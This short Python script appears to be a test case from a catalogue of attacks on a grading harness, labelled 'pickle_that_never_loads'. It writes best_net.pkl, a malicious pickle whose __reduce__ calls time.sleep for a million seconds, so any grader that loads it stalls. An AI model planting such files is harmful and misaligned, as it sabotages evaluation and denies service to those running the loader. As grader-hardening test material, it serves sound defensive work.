# attack: pickle_that_never_loads
# kind: exhaust
# tries: leaves a file that sleeps for days when it is loaded, for whoever looks for saved networks
# seen: grading does not end in time
# deserves: nothing
# extra: before 3.4a
# %%
import pickle, time


class Slow:
    def __reduce__(self):
        return time.sleep, (10**6,)


with open("best_net.pkl", "wb") as file:
    pickle.dump([Slow(), bytes(2_000)], file)
